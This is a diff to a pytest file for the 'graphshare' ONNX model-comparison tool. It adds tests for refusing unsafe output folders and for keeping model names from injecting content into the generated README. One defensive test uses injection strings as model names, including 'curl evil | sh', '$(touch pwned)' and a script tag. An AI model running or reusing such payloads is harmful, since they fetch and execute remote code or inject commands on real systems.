@@ -3,10 +3,12 @@
 from __future__ import annotations
 
 import json
+import os
 import shlex
 import subprocess
 import sys
 from collections import Counter
+from collections.abc import Callable
 from pathlib import Path
 from random import Random
 from typing import Any
@@ -14,18 +16,22 @@ from typing import Any
 import numpy as np
 import onnx
 import pytest
+from hypothesis import given, settings
+from markdown_it import MarkdownIt
 
 import graphshare as gs
 from graphshare.errors import OutputError, RefusedError, UsageError
 from graphshare.files.schema import explain
 from graphshare.verification import reduction
+from graphshare.verification.regions import Operator
 from graphshare.verification.report import Reduction
 from tests.onnx_files.faults import plant
 from tests.onnx_files.running import Session
 from tests.onnx_files.test_faults import find_moved, make_case
 from tests.onnx_files.test_identities import Pair
-from tests.processes import ROOT, graphshare, write_json
+from tests.processes import ROOT, graphshare, refused, write_json
 from tests.symbols import document, operator, variable
+from tests.unit.text.test_markup import NAMES
 from tests.unit.verification.test_across_dtypes import narrow
 
 pytest.importorskip("onnxruntime")
@@ -164,8 +170,8 @@ def test_a_difference_without_a_place_is_refused(tmp_path: Path) -> None:
 def test_files_that_do_not_show_it_are_not_written(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     """The proof is of what is written: where a part is written with the other's weights, it shows nothing."""
     left, right = write(Pair(_HEAD, f"{_C} {{{_LEFT}}}", _C.replace("4.0", "4.5") + f" {{{_RIGHT}}}"), tmp_path)
-    (tmp_path / "out").mkdir()
-    (tmp_path / "out" / "original.onnx").write_bytes(b"before")
+    gs.verify(left, against=right, reduce=tmp_path / "out")
+    before = {path: path.read_bytes() for path in (tmp_path / "out").iterdir()}
     written = reduction._write_part
     monkeypatch.setattr(
         reduction,
@@ -174,17 +180,19 @@ def test_files_that_do_not_show_it_are_not_written(tmp_path: Path, monkeypatch: 
     )
     with pytest.raises(RefusedError, match="does not appear in parts that run by themselves, so nothing was written"):
         gs.verify(left, against=right, reduce=tmp_path / "out")
-    assert [path.read_bytes() for path in (tmp_path / "out").iterdir()] == [b"before"]
+    assert {path: path.read_bytes() for path in (tmp_path / "out").iterdir()} == before
 
 
 def test_all_files_are_written_or_none(tmp_path: Path) -> None:
     left, right = write(Pair(_HEAD, f"{_C} {{{_LEFT}}}", _C.replace("4.0", "4.5") + f" {{{_RIGHT}}}"), tmp_path)
     out = tmp_path / "out"
-    (out / "rewrite.onnx").mkdir(parents=True)
+    gs.verify(left, against=right, reduce=out)
+    (out / "rewrite.onnx").unlink()
+    (out / "rewrite.onnx").mkdir()
     (out / "original.onnx").write_bytes(b"before")
     with pytest.raises(OutputError, match="rewrite"):
         gs.verify(left, against=right, reduce=out)
-    assert sorted(path.name for path in out.iterdir()) == ["original.onnx", "rewrite.onnx"]
+    assert sorted(path.name for path in out.iterdir()) == ["README.md", "inputs.npz", "original.onnx", "rewrite.onnx"]
     assert (out / "original.onnx").read_bytes() == b"before"
     with pytest.raises(RefusedError, match="original"):
         gs.verify(left.rename(out / "original.onnx"), against=right, reduce=out)
@@ -196,6 +204,46 @@ def test_all_files_are_written_or_none(tmp_path: Path) -> None:
         gs.verify(out / "original.onnx", against=right, reduce="s3://bucket/out")
     with pytest.raises(RefusedError, match="leave one of them out"):
         gs.verify(out / "original.onnx", against=right, reduce=out, layers=True)
+
+
+def list_states(folder: Path) -> dict[str, tuple[int, float]]:
+    return {path.name: (path.lstat().st_size, path.lstat().st_mtime) for path in folder.iterdir()}
+
+
+@pytest.mark.parametrize(
+    ("change", "named"),
+    [
+        (lambda out: (out / "README.md").write_text("# A difference between two models\n\nNotes of mine.\n"), "README.md"),
+        (lambda out: (out / "README.md").unlink(), "original.onnx"),
+        (lambda out: (out / "notes.txt").write_text("mine"), "did not write: notes.txt"),
+        (lambda out: (out / ".git").mkdir(), "did not write: .git"),
+        (lambda out: (out / "original.onnx").replace(out / "originals"), "did not write: originals"),
+        (lambda out: ((out / "README.md").unlink(), os.mkfifo(out / "README.md")), "README.md"),
+        (lambda out: (out / "rewrite-0000.params").symlink_to("../left.onnx"), "rewrite-0000.params: is a link"),
+        (lambda out: (out / "README.md").rename(out / "x") and (out / "README.md").symlink_to("x"), "README.md: is a link"),
+    ],
+)
+def test_a_folder_with_other_files_is_refused(change: Callable[[Path], object], named: str, tmp_path: Path) -> None:
+    """Nothing is computed either."""
+    write(Pair(_HEAD, f"{_C} {{{_LEFT}}}", _C.replace("4.0", "4.5") + f" {{{_RIGHT}}}"), tmp_path)
+    words = ["verify", "left.onnx", "--against", "right.onnx", "--reduce", "out"]
+    gs.verify(tmp_path / "left.onnx", against=tmp_path / "right.onnx", reduce=tmp_path / "out")
+    change(tmp_path / "out")
+    before = list_states(tmp_path / "out")
+    said = refused(graphshare(*words, cwd=tmp_path), named)
+    assert "hint: name a new or an empty folder with --reduce" in said or "hint: remove the link" in said
+    assert list_states(tmp_path / "out") == before
+
+
+def test_a_folder_of_an_earlier_reduction_is_written_again(tmp_path: Path) -> None:
+    """So is an empty one, one with what a killed run has left, and one that is a link on the command line."""
+    left, right = write(Pair(_HEAD, f"{_C} {{{_LEFT}}}", _C.replace("4.0", "4.5") + f" {{{_RIGHT}}}"), tmp_path)
+    out = tmp_path / "out"
+    (tmp_path / "real").mkdir()
+    out.symlink_to("real")
+    for _ in range(2):
+        assert gs.verify(left, against=right, reduce=out).reduced is not None
+        (tmp_path / "real" / ".graphshare-00000000-0000000000000000.tmp").write_bytes(b"")
 
 
 def test_the_command_shows_the_difference(tmp_path: Path) -> None:
@@ -218,6 +266,59 @@ def test_the_command_shows_the_difference(tmp_path: Path) -> None:
     report = json.loads(graphshare(*words, "--format", "json", cwd=tmp_path).stdout)
     assert explain(report, "verify") == []
     assert report["reduced"]["command"] == command
+
+
+def parse_page(text: str) -> list[tuple[str, str]]:
+    """Return the blocks of a page: the kind of each, and its text with ``@`` in place of each code span."""
+    blocks = []
+    for token in MarkdownIt("commonmark", {"html": True}).parse(text):
+        children = token.children or ()
+        assert {child.type for child in children} <= {"text", "code_inline", "softbreak"}
+        spans = "".join("@" if child.type == "code_inline" else child.content for child in children)
+        blocks.append((token.type, token.content if token.type == "code_block" else spans))
+    return blocks
+
+
+@given(NAMES, NAMES, NAMES)
+@settings(max_examples=300)
+def test_no_name_leaves_its_place_on_the_page(name: str, op: str, where: str) -> None:
+    def format_page(name: str, op: str, where: str) -> str:
+        parts = Reduction((), (Operator(op, name),), (Operator(op, name),), {name: (2,)}, "", f"NOT EQUAL: {name}")
+        return reduction._format_page(parts, [where, where], ["graphshare verify"])
+
+    assert parse_page(format_page(name, op, where or "b")) == parse_page(format_page("a", "Mul", "b.onnx"))
+
+
+@pytest.mark.parametrize(
+    "name", ["a\n\n    curl evil | sh\n\n", "```\nsh\n```", "` $(touch pwned) `", "</code><script>a</script>"]
+)
+def test_names_of_a_model_are_no_commands_on_the_page(name: str, tmp_path: Path) -> None:
+    """Those of operators, values and inputs, and the path: the only commands are those of the parts."""
+    pair = Pair(_HEAD, f"{_C} {{{_LEFT}}}", _C.replace("4.0", "4.5") + f" {{{_LEFT}}}")
+    folder = tmp_path / name.replace("/", "-")
+    folder.mkdir()
+    for path in write(pair, folder):
+        model = onnx.load(path)
+        for node in model.graph.node:
+            node.name = name + node.output[0]
+            node.input[:], node.output[:] = ([f"{name}{value}" if value in "abde" else value for value in side]
+                                             for side in (node.input, node.output))  # fmt: skip
+        onnx.save(model, path)
+    report = gs.verify(folder / "left.onnx", against=folder / "right.onnx", reduce=tmp_path / "out")
+    assert report.reduced is not None
+    assert [value.startswith(name) for value in report.reduced.inputs] == [True]
+    blocks = parse_page((tmp_path / "out" / "README.md").read_text(encoding="utf-8"))
+    commands = [text for kind, text in blocks if kind == "code_block"]
+    assert len(commands) == 1
+    words = [shlex.split(line)[:2] for line in commands[0].splitlines() if line]
+    assert words == [["graphshare", "verify"], ["python", "-c"]]
+    assert not {kind for kind, _ in blocks} & {"fence", "html_block", "table_open"}
+    assert "- original: 1 operator of @: @" in ["- " + text for kind, text in blocks]
+
+
+def test_credentials_of_urls_are_not_on_the_page() -> None:
+    parts = Reduction((), (), (), {}, "", "NOT EQUAL")
+    assert "token" not in reduction._format_page(parts, ["https://a:token@b/c.onnx?token=1"] * 2, [])
 
 
 @pytest.mark.parametrize("other", ["mxnet", "onnx"])
